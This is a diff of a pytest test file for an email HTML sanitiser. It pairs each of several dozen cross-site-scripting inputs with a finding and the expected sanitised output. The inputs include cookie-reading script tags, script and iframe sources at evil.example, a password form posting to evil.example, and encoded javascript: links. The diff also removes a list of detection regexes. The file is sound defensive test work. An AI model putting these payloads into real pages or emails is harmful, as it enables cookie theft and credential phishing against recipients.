@@ -9,85 +9,130 @@ import pytest
 from journey.write.render import render_email
 from journey.write.sanitize import sanitize_html
 
-FORBIDDEN = [
-    re.compile(r"<script", re.I),
-    re.compile(r"<[a-z][^>]*\son[a-z]+\s*=", re.I),
-    re.compile(r"(?:java|vb)script\s*:", re.I),
-    re.compile(r"<(?:iframe|object|embed|frame|form|input|base|svg|math)\b", re.I),
-    re.compile(r"<meta[^>]*refresh", re.I),
-    re.compile(r"expression\s*\(|-moz-binding|behavior\s*:", re.I),
-]
+CLEAN_LINK = '<a rel="noopener noreferrer">click</a>'  # the address is dropped, the link text kept
 
 
 def _email(where: str, hostile: str) -> str:
+    """An email with "Safe text" and, on line 8 (mj-raw) or 10 (mj-text), `hostile` between [[ and ]]."""
     if where == "mj-raw":
-        block = f"<mj-raw>{hostile}</mj-raw>"
+        block = f"<mj-raw>[[{hostile}]]</mj-raw>"
     else:
-        block = f"<mj-section>\n<mj-column>\n<mj-text>{hostile}</mj-text>\n</mj-column>\n</mj-section>"
+        block = f"<mj-section>\n<mj-column>\n<mj-text>[[{hostile}]]</mj-text>\n</mj-column>\n</mj-section>"
     return (
         "<mjml>\n<mj-body>\n<mj-section>\n<mj-column>\n<mj-text>Safe text</mj-text>\n</mj-column>\n</mj-section>\n"
         f"{block}\n</mj-body>\n</mjml>\n"
     )
 
 
-HOSTILE = [
-    pytest.param("<script>alert(document.cookie)</script>", "unsafe-script", id="script"),
-    pytest.param('<SCRIPT src="https://evil.example/x.js"></SCRIPT>', "unsafe-script", id="script-uppercase"),
-    pytest.param('<img src="x.png" alt="" onerror="alert(1)" />', "unsafe-event-handler", id="img-onerror"),
+def _between_markers(html: str) -> str:
+    """What the sanitiser left of the hostile markup (between the [[ and ]] the email put around it)."""
+    start = html.index("[[") + 2
+    return html[start : html.index("]]", start)]
+
+
+HOSTILE = [  # (what the author wrote, the finding, what is left of it after sanitising)
+    pytest.param("<script>alert(document.cookie)</script>", "unsafe-script", "", id="script"),
     pytest.param(
-        '<a href="https://ok.example" onclick="steal()">ok</a>', "unsafe-event-handler", id="onclick"
-    ),
-    pytest.param('<a href="javascript:alert(1)">click</a>', "unsafe-javascript-url", id="javascript-link"),
-    pytest.param(
-        '<a href=" JaVaScRiPt:alert(1)">click</a>', "unsafe-javascript-url", id="javascript-mixed-case"
-    ),
-    pytest.param('<img src="javascript:alert(1)" alt="" />', "unsafe-javascript-url", id="javascript-img"),
-    pytest.param(
-        '<a href="&#106;avascript:alert(1)">click</a>', "unsafe-url", id="javascript-entity-encoded"
+        '<SCRIPT src="https://evil.example/x.js"></SCRIPT>', "unsafe-script", "", id="script-uppercase"
     ),
     pytest.param(
-        '<a href="jav&#x09;ascript:alert(1)">click</a>', "unsafe-url", id="javascript-with-tab-entity"
+        '<img src="x.png" alt="" onerror="alert(1)" />',
+        "unsafe-event-handler",
+        '<img src="x.png" alt="">',
+        id="img-onerror",
     ),
     pytest.param(
-        '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="" />', "unsafe-url", id="data-image"
+        '<a href="https://ok.example" onclick="steal()">ok</a>',
+        "unsafe-event-handler",
+        '<a href="https://ok.example" rel="noopener noreferrer">ok</a>',
+        id="onclick",
     ),
-    pytest.param('<svg onload="alert(1)"><circle r="5" /></svg>', "unsafe-svg", id="svg-onload"),
-    pytest.param("<svg><script>alert(1)</script></svg>", "unsafe-svg", id="svg-script"),
-    pytest.param('<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', "unsafe-svg", id="svg-link"),
-    pytest.param('<math><mtext><img src="x" onerror="alert(1)"/></mtext></math>', "unsafe-svg", id="math"),
-    pytest.param('<iframe src="https://evil.example"></iframe>', "unsafe-iframe", id="iframe"),
-    pytest.param('<object data="https://evil.example/x.swf"></object>', "unsafe-iframe", id="object"),
-    pytest.param('<embed src="https://evil.example/x.swf" />', "unsafe-iframe", id="embed"),
     pytest.param(
-        '<form action="https://evil.example"><input name="password" /></form>', "unsafe-form", id="form"
+        '<a href="javascript:alert(1)">click</a>', "unsafe-javascript-url", CLEAN_LINK, id="javascript-link"
     ),
-    pytest.param('<base href="https://evil.example/" />', "unsafe-base", id="base"),
+    pytest.param(
+        '<a href=" JaVaScRiPt:alert(1)">click</a>',
+        "unsafe-javascript-url",
+        CLEAN_LINK,
+        id="javascript-mixed-case",
+    ),
+    pytest.param(
+        '<img src="javascript:alert(1)" alt="" />',
+        "unsafe-javascript-url",
+        '<img alt="">',
+        id="javascript-img",
+    ),
+    pytest.param(
+        '<a href="&#106;avascript:alert(1)">click</a>',
+        "unsafe-url",
+        CLEAN_LINK,
+        id="javascript-entity-encoded",
+    ),
+    pytest.param(
+        '<a href="jav&#x09;ascript:alert(1)">click</a>',
+        "unsafe-url",
+        CLEAN_LINK,
+        id="javascript-with-tab-entity",
+    ),
+    pytest.param(
+        '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="" />',
+        "unsafe-url",
+        '<img alt="">',
+        id="data-image",
+    ),
+    pytest.param('<svg onload="alert(1)"><circle r="5" /></svg>', "unsafe-svg", "", id="svg-onload"),
+    pytest.param("<svg><script>alert(1)</script></svg>", "unsafe-svg", "", id="svg-script"),
+    pytest.param(
+        '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', "unsafe-svg", "", id="svg-link"
+    ),
+    pytest.param(
+        '<math><mtext><img src="x" onerror="alert(1)"/></mtext></math>', "unsafe-svg", "", id="math"
+    ),
+    pytest.param('<iframe src="https://evil.example"></iframe>', "unsafe-iframe", "", id="iframe"),
+    pytest.param('<object data="https://evil.example/x.swf"></object>', "unsafe-iframe", "", id="object"),
+    pytest.param('<embed src="https://evil.example/x.swf" />', "unsafe-iframe", "", id="embed"),
+    pytest.param(
+        '<form action="https://evil.example"><input name="password" /></form>', "unsafe-form", "", id="form"
+    ),
+    pytest.param('<base href="https://evil.example/" />', "unsafe-base", "", id="base"),
     pytest.param(
         '<meta http-equiv="refresh" content="0;url=https://evil.example" />',
         "unsafe-meta-refresh",
+        '<meta content="0;url=https://evil.example">',
         id="meta-refresh",
     ),
-    pytest.param('<div style="width: expression(alert(1))">x</div>', "unsafe-css", id="style-expression"),
+    pytest.param(
+        '<div style="width: expression(alert(1))">x</div>',
+        "unsafe-css",
+        '<div style="width: /* removed */(alert(1))">x</div>',
+        id="style-expression",
+    ),
     pytest.param(
         "<div style=\"background: url('javascript:alert(1)')\">x</div>",
         "unsafe-css",
+        '<div style="background: /* removed */(alert(1)\')">x</div>',
         id="style-url-javascript",
     ),
     pytest.param(
         "<style>.x { -moz-binding: url(https://evil.example/x.xml#xss) }</style>",
         "unsafe-css",
+        "<style>.x { /* removed */(: url(https://evil.example/x.xml#xss) }</style>",
         id="moz-binding",
     ),
-    pytest.param("<style>.x { behavior: url(x.htc) }</style>", "unsafe-css", id="behavior"),
+    pytest.param(
+        "<style>.x { behavior: url(x.htc) }</style>",
+        "unsafe-css",
+        "<style>.x { /* removed */( url(x.htc) }</style>",
+        id="behavior",
+    ),
 ]
 
 
 @pytest.mark.parametrize("where", ["mj-raw", "mj-text"])
-@pytest.mark.parametrize(("hostile", "rule"), HOSTILE)
-def test_hostile_html_is_removed_and_reported_with_its_line(where, hostile, rule):
+@pytest.mark.parametrize(("hostile", "rule", "left"), HOSTILE)
+def test_hostile_html_is_removed_and_reported_with_its_line(where, hostile, rule, left):
     email = render_email(_email(where, hostile))
-    for pattern in FORBIDDEN:
-        assert pattern.search(email.html) is None, pattern.pattern
+    assert _between_markers(email.html) == left
     findings = {f.rule: f for f in email.findings}
     assert rule in findings
     assert findings[rule].severity == "error"
